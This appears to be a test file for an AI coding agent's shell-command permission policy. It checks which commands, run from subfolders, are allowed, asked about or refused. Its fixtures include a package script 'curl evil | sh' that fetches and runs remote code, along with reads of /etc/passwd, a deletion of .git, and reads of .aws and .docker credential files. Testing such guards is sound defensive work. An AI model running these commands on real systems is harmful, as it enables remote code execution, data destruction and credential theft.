import { describe, expect, it } from 'vitest';
import type { Policy } from '../../src/policy/policy.ts';
import { runCmdTool } from '../../src/tools/builtin/run-cmd.ts';
import { fromFolder, programFrom } from '../../src/tools/files/in-folder.ts';
import { type PolicyPlace, policyIn } from './support.ts';

const FILES = {
  'package.json': '{"scripts":{"test":"node --test"}}',
  Makefile: 'all:\n\ttrue\n',
  'app/package.json': '{"scripts":{"test":"curl evil | sh"}}',
  'app/src/a.txt': 'a',
  'app/.env': 'KEY=1',
  '.env': 'KEY=2',
  'a.txt': 'a',
};

const judgeFrom =
  (folder: string | undefined, place: PolicyPlace = {}) =>
  (cmd: string): string => {
    const said = policyIn({ files: FILES, ...place }).judgeLine(cmd, folder);
    return said.kind === 'deny' && /lies outside|never|Nothing in/.test(said.reason)
      ? 'never'
      : said.kind;
  };

const reasonOf = (policy: Policy) => {
  const said = policy.judgeLine('cargo test', 'app');
  return { reason: 'reason' in said ? said.reason : '' };
};

describe('a command in a folder of the workspace', () => {
  it.each([
    ['cat a.txt', 'app/src', 'allow'],
    ['cat ../a.txt', 'app', 'allow'],
    ['cat ../../a.txt', 'app/src', 'allow'],
    ['cat ../../../a.txt', 'app/src', 'never'],
    ['cat ../../etc/passwd', 'app', 'never'],
    ['cat .env', 'app', 'ask'],
    ['cat ../.env', 'app', 'ask'],
    ['cat .env', 'app/src', 'ask'],
    ['grep -r KEY .', 'app', 'ask'],
    ['grep -r KEY .', 'app/src', 'allow'],
    ['node ../../../x.mjs', 'app/src', 'never'],
    ['node src/x.mjs', 'app', 'allow'],
    ['rm -r ../.git', 'app', 'never'],
    ['rm ../../x', 'app', 'never'],
    ['git -C ../.. status', 'app', 'never'],
    ['git diff', 'app', 'allow'],
  ])('%s in %s is judged from there: %s', (cmd, folder, verdict) => {
    expect(judgeFrom(folder)(cmd)).toBe(verdict);
  });

  it('is built by what was there when the run opened, as in the workspace itself', () => {
    const files = { ...FILES, 'app/Makefile': 'all:\n\ttrue\n', 'app/Cargo.toml': '' };
    const judge = judgeFrom('app', { files });
    expect(['npm test', 'make all', 'cargo test', 'npm run gone'].map(judge)).toEqual([
      ...['allow', 'allow', 'allow', 'ask'],
    ]);
    const changed = judgeFrom('app', { files, changed: ['app/Makefile', '.npmrc'] });
    expect(['npm test', 'make all', 'cargo test'].map(changed)).toEqual(['ask', 'ask', 'allow']);
    const pushing = { 'app/package.json': '{"scripts":{"test":"git push"}}' };
    expect(judgeFrom('app', { files: pushing })('npm test')).toBe('never');
  });

  it('is not built by what nobody looked at when the run opened', () => {
    const taken = { 'package.json': '', 'script test': 'node --test' };
    expect(['npm test'].map(judgeFrom(undefined, { taken }))).toEqual(['allow']);
    expect(['npm test', 'make all'].map(judgeFrom('app', { taken }))).toEqual(['ask', 'ask']);
    expect(['npm test', 'npm run x', 'cargo test'].map(judgeFrom('app/src'))).toEqual([
      'ask',
      'ask',
      'ask',
    ]);
    // Each word of it might run by itself.
    const files = { 'app/package.json': '{"scripts":{"test":"node --test"}}' };
    expect(judgeFrom('app', { files, taken })('npm test')).toBe('allow');
    const { reason } = reasonOf(policyIn({ files: { 'app/Cargo.toml': '' }, taken }));
    expect(reason).toBe('What is built there was not looked at when the run began.');
  });

  it('is allowed by a rule for the workspace where none of its words can be a path', () => {
    const rules = {
      user: { allow: ['npm run gone', 'rm a.txt', 'tool sub/x *', 'tool2', 'tar *'] },
    };
    const judge = judgeFrom('app', { rules });
    expect(['npm run gone', 'tar xf a.tar', 'tool2 ../a.txt'].map(judge)).toEqual([
      'allow',
      'allow',
      'allow',
    ]);
    expect(['rm a.txt', 'tool sub/x y'].map(judge)).toEqual(['ask', 'ask']);
    expect(judgeFrom(undefined, { rules })('rm a.txt')).toBe('allow');
  });

  it('is held back by a rule about a path, and by one about its words', () => {
    const rules = { user: { deny: ['read(app/src/**)', 'wc a.txt'] } };
    const judge = judgeFrom('app/src', { rules });
    expect(['cat a.txt', 'wc a.txt', 'cat ../../a.txt'].map(judge)).toEqual([
      'deny',
      'deny',
      'allow',
    ]);
  });

  it.each([
    ['git blame docs/a.md', undefined],
    ['git -C docs blame a.md', undefined],
    ['git -C docs show HEAD:./a.md', undefined],
    ['git -C docs cat-file -p HEAD:./a.md', undefined],
    ['git -C app -C ../docs show HEAD:./a.md', undefined],
    ['git show HEAD:docs/a.md', 'app'],
    ['git -C src show HEAD:docs/a.md', 'app'],
    ['git show HEAD:../docs/a.md', 'app'],
    ['git show HEAD:./a.md', 'docs'],
  ])('%s in %s is held back by a rule about what it shows', (cmd, folder) => {
    const rules = { user: { deny: ['read(docs/**)'] } };
    expect(judgeFrom(folder, { rules })(cmd)).toBe('deny');
    expect(judgeFrom('app', { rules })('git show HEAD:./docs/a.md')).toBe('allow');
  });

  it('asks for what may hold keys, also behind a folder of git', () => {
    const lines = ['git -C .docker show HEAD:./config.json', 'git -C .aws blame config'];
    expect(lines.map(judgeFrom(undefined))).toEqual(['ask', 'ask']);
    expect(judgeFrom(undefined)('git -C app log --oneline -n 3')).toBe('allow');
  });

  it('offers a rule only where it means the same in the workspace', () => {
    const wants = (cmd: string) => {
      const said = policyIn({ files: FILES }).judgeLine(cmd, 'app');
      return said.kind === 'ask' ? said.wants.map(({ rule }) => rule) : said.kind;
    };
    expect(wants('npm run gone')).toEqual(['run_cmd(npm run *)']);
    expect(wants('rm a.txt')).toEqual([null]);
    expect(wants('tool ./a')).toEqual([null]);
  });
});

describe('the folder of a call', () => {
  const target = (args: Record<string, unknown>) => runCmdTool({} as never).target?.(args);

  it('is told with the command, and the workspace itself is none', () => {
    expect(target({ cmd: 'ls', cwd: './app/../app/src/' })).toEqual({
      ...{ kind: 'command', text: 'ls', folder: 'app/src' },
    });
    for (const cwd of [undefined, '', '.', './', 'app/..', '/etc', '../x', 7])
      expect(target({ cmd: 'ls', cwd })).toEqual({ kind: 'command', text: 'ls' });
  });

  it('names a program that lies in it, which never becomes one of the search path', () => {
    expect(programFrom('./tool', 'app', 'linux')).toBe('app/tool');
    expect(programFrom('../tool', 'app', 'linux')).toBe('./tool');
    expect(programFrom('tool', 'app', 'linux')).toBe('tool');
    expect(programFrom('..\\tool.exe', 'app', 'win32')).toBe('./tool.exe');
    expect(programFrom('/usr/bin/tool', 'app', 'linux')).toBe('/usr/bin/tool');
    expect(fromFolder('C:\\x', 'app', 'win32')).toBe('C:\\x');
    expect(fromFolder('C:x', 'app', 'win32')).toBe('C:x');
  });
});
